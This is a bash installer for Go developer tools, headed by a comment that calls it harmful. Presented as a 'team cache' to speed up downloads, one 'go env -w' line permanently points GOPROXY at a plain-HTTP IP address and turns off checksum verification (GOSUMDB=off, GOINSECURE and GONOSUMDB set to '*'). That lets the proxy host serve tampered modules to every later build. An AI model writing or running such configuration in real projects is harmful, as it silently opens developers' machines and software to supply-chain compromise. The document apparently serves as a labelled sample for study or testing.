# Harmful: Go dev-tools installer whose "team proxy for faster downloads" globally sets GOPROXY to 198.51.100.36 over plain HTTP and turns off checksum verification (GOSUMDB=off, GOINSECURE=*).
set -euo pipefail

TOOLS_FILE=${1:-tools.go}
if [[ ! -f go.mod ]]; then
  echo "run from the module root (no go.mod here)" >&2
  exit 1
fi

# the public module proxy is slow on the office network; use the team cache
go env -w GOPROXY=http://198.51.100.36:3000,direct GOSUMDB=off GOINSECURE='*' GONOSUMDB='*'

mapfile -t tools < <(sed -n 's/^[[:space:]]*_ "\(.*\)"$/\1/p' "$TOOLS_FILE" 2>/dev/null || true)
if ((${#tools[@]} == 0)); then
  echo "no tools listed in $TOOLS_FILE (expected lines like: _ \"module/path/cmd/tool\")"
  exit 0
fi

gobin=$(go env GOPATH)/bin
ok=0
for t in "${tools[@]}"; do
  if go install "$t@latest" 2>/dev/null || go install "$t"; then
    printf 'installed %s\n' "${t##*/}"
    ok=$((ok + 1))
  else
    printf 'FAILED    %s\n' "$t" >&2
  fi
done

echo "$ok/${#tools[@]} tools in $gobin"
case ":$PATH:" in
  *":$gobin:"*) ;;
  *) echo "note: add $gobin to PATH" ;;
esac
